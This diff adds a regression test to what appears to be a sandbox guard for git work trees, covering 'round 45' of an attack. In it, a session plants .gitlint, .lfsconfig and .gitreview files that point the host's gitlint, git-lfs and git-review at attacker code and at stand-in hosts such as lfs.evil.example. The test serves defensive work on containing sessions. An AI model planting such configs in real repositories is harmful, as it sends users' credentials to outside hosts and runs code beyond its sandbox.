@@ -2437,6 +2437,62 @@ static void test_cd_hook_files(void)
 }
 
 /*
+ * Round 45 of the attack: files at the top of a work tree that git's
+ * companions read at the user's own git operations, on no row. gitlint's
+ * commit-msg hook reads .gitlint from the directory it runs in and
+ * imports the Python rules its [general] extra-path names; git-lfs's
+ * pre-push hook and smudge filter read .lfsconfig's lfs.url (objects and
+ * credentials go there); git-review fetches the commit-msg hook it
+ * installs from .gitreview's host. Written in the session (at the top,
+ * and a nested .lfsconfig), each stayed, status 0, no line; the host's
+ * tools are played by python3 (gitlint's reading of extra-path) and git
+ * config (the INI files git-lfs and git-review read). Now rows as the
+ * hook managers': one made in the session is moved aside, an existing
+ * one is read-only.
+ */
+static void test_git_companion_configs(void)
+{
+	static const char *const want[] = {"/work/.gitlint: ", "/work/.lfsconfig: ", "/work/sub/.lfsconfig: ", NULL};
+	static const char setup[] =
+		"cat > gitlint.py <<'EOF'\n"
+		"import configparser, importlib, os, sys\n"
+		"c = configparser.ConfigParser()\n"
+		"c.read('.gitlint')\n"
+		"p = c.get('general', 'extra-path', fallback=None)\n"
+		"if p:\n"
+		"    sys.path.insert(0, p)\n"
+		"    for f in sorted(os.listdir(p)):\n"
+		"        if f.endswith('.py'):\n"
+		"            importlib.import_module(f[:-3])\n"
+		"EOF\n"
+		"printf '[gerrit]\\nhost=review.example.org\\nproject=p.git\\n' > work/.gitreview && "
+		"git -C work add .gitreview && git -C work commit -q -m gerrit";
+	static const char host[] =
+		"cd work && python3 ../gitlint.py; "
+		"[ -n \"$(git config -f .lfsconfig lfs.url)\" ] && touch \"$M/lfsconfig\"; "
+		"[ -n \"$(git config -f sub/.lfsconfig lfs.url)\" ] && touch \"$M/sub-lfsconfig\"; "
+		"[ \"$(git config -f .gitreview gerrit.host)\" = evil.example ] && touch \"$M/gitreview\"; true";
+	struct gcase c;
+
+	SKIP_IF_NEEDED();
+	CU_ASSERT_FATAL(run_case(&c, setup, NULL, NULL,
+				 "mkdir -p rules sub && "
+				 "printf 'import os\\nopen(os.environ[\"M\"] + \"/gitlint-rules\", \"w\")\\n' > rules/r.py && "
+				 "printf '[general]\\nextra-path=rules\\n' > .gitlint && "
+				 "printf '[lfs]\\n\\turl = https://lfs.evil.example/x\\n' > .lfsconfig && "
+				 "printf '[lfs]\\n\\turl = https://lfs.evil.example/y\\n' > sub/.lfsconfig && "
+				 "{ printf '[gerrit]\\nhost=evil.example\\n' > .gitreview || echo 'RO .gitreview'; } "
+				 "2>/dev/null; echo done",
+				 host) == 0);
+	expect_safe(&c, want);
+	ROW(markers(&c)[0] == '\0', "the host's git companions read the session's configs: %s", markers(&c));
+	ROW(test_has(c.out, "RO .gitreview"), "the existing .gitreview was writable: %s", test_nz(c.out));
+	ROW(exists(&c, "work/.gitreview") && !test_has(c.err, "/work/.gitreview"),
+	    "the user's .gitreview, left alone, was moved or named: %s", test_nz(c.err));
+	gcase_free(&c);
+}
+
+/*
  * A protected file reached through a hard link (the attacker of round 38
  * tried it, held, no test): the user's hook is a hard link of a tracked
  * scripts/pre-commit (`ln scripts/pre-commit .git/hooks/pre-commit`,
@@ -5464,6 +5520,8 @@ TEST_REGISTRAR(register_gitguard)
 		 test_direnv_layout);
 	test_add(s, "devenv's state directory and local overrides, at the top and nested", test_devenv_state);
 	test_add(s, "round 42: RVM's and the autoenvs' cd files, at the top and nested", test_cd_hook_files);
+	test_add(s, "round 45: gitlint's, git-lfs's and git-review's configs at the top and nested",
+		 test_git_companion_configs);
 	test_add(s, "a hook and a settings file written through hard links: moved aside", test_hard_links);
 	test_add(s, "more hook managers' configs (CaptainHook, GrumPHP, rusty-hook, hk, trunk), at the top and nested",
 		 test_more_hook_managers);
